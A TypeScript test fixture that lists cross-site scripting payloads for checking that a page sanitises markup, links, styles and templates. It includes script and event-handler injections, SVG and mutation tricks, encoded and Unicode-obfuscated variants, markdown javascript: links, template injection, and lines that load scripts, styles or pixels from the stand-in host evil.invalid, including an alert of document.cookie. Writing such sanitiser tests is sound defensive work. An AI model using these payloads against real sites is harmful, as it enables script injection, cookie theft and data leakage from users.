/**
 * Texts that run as code where a page is careless: one of each way in which markup, addresses and styles have been
 * abused. Each calls `pwned`, which a test puts into the page, or opens a dialog, or asks another host.
 */

/** The host that nothing may ever be asked of. */
export const ELSEWHERE = "evil.invalid";

const tags = [
  "<script>pwned()</script>",
  "<ScRiPt>pwned()</sCrIpT>",
  '<script src="//evil.invalid/x.js"></script>',
  "</title><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script\u000c>pwned()</script>",
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="//evil.invalid/x.swf">',
  '<base href="//evil.invalid/">',
  '<link rel=stylesheet href="//evil.invalid/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<form action="//evil.invalid/"><button>Sign in again</button></form>',
  '<a href="javascript:pwned()">here</a>',
];

const handlers = [
  "<img src=x onerror=pwned()>",
  '<img src="x" onerror="alert(document.cookie)">',
  "<img/src/onerror=pwned()>",
  "<img src=x onerror\n=\npwned()>",
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  "`><img src=x onerror=pwned()>",
  '" autofocus onfocus="pwned()',
  "' onmouseover='pwned()",
  "<body onload=pwned()>",
  "<details open ontoggle=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<audio src=x onerror=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<marquee onstart=pwned()>",
  "<div onpointerenter=pwned() style=position:fixed;inset:0>",
];

const drawings = [
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:pwned()"><text y=20>here</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
];

/** What is harmless where it is read first, and not where it is read again. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
  "<template><img src=x onerror=pwned()></template>",
  "<!--><img src=x onerror=pwned()>-->",
  "<![CDATA[><img src=x onerror=pwned()>]]>",
  "<x/=><img src=x onerror=pwned()>",
];

const entities = [
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "&#60;img src=x onerror=pwned()&#62;",
  "&#x3C;img src=x onerror=pwned()&#x3E;",
  "\\u003cimg src=x onerror=pwned()\\u003e",
  "%3Cimg%20src=x%20onerror=pwned()%3E",
  "＜img src=x onerror=pwned()＞",
  "<\u0130mg src=x onerror=pwned()>",
  "<ımg src=x onerror=pwned()>",
  "\u202e<img src=x onerror=pwned()>\u202c",
  "\u2066)(denwp=rorreno x=crs gmi<\u2069",
  "<img src=x one\u200brror=pwned()>",
  "\ufeff<script>pwned()</script>",
];

const links = [
  "[a](javascript:pwned())",
  "[b](JaVaScRiPt:pwned())",
  "[c](java\tscript:pwned())",
  "[d](&#106;avascript:pwned())",
  "[e](javascript&colon;pwned())",
  "[f](\u0001javascript:pwned())",
  "[g](<javascript:pwned()>)",
  "[h](data:text/html,<script>pwned()</script>)",
  "[i](vbscript:pwned)",
  "[j](blob:https://evil.invalid/1)",
  "[k](file:///etc/passwd)",
  '[l](https://example.org "\\" onmouseover=pwned() \\"")',
  "[m][1]\n\n[1]: javascript:pwned()",
  "<javascript:pwned()>",
  '![n](x" onerror="pwned())',
  "![o](https://evil.invalid/pixel.png)",
  "![p](javascript:pwned())",
  "[![q](x)](javascript:pwned())",
  "javascript:pwned()",
  "//evil.invalid/x",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];

const code = [
  "`<img src=x onerror=pwned()>`",
  "```html\n<script>pwned()</script>\n```",
  '```"><img src=x onerror=pwned()>\nx\n```',
  "```js\n</code></pre><img src=x onerror=pwned()>\n```",
  "~~<img src=x onerror=pwned()>~~ **<b onclick=pwned()>x</b>**",
  "| a | b |\n|---|---|\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |",
  "> <svg onload=pwned()>\n\n- <img src=x onerror=pwned()>",
];

/** Templates, styles, names of the language's own objects. */
const others = [
  "{{constructor.constructor('pwned()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker types.
  "${pwned()}",
  "<%= pwned() %>",
  "#{pwned()}",
  "{{$t(pwned)}} $t(problem.internal)",
  "{{name, <b>}} <0>x</0>",
  "<style>@import '//evil.invalid/x.css'</style>",
  '<p style="background:url(//evil.invalid/x.png)">x</p>',
  "expression(pwned())",
  "x;}*{background:url(//evil.invalid/x.png)}",
  "__proto__",
  "constructor",
  "toString",
  ":<img src=x onerror=pwned()>: @<svg onload=pwned()>",
];

/** All of them. */
export const vectors: readonly string[] = [
  ...tags,
  ...handlers,
  ...drawings,
  ...mutations,
  ...entities,
  ...links,
  ...code,
  ...others,
];
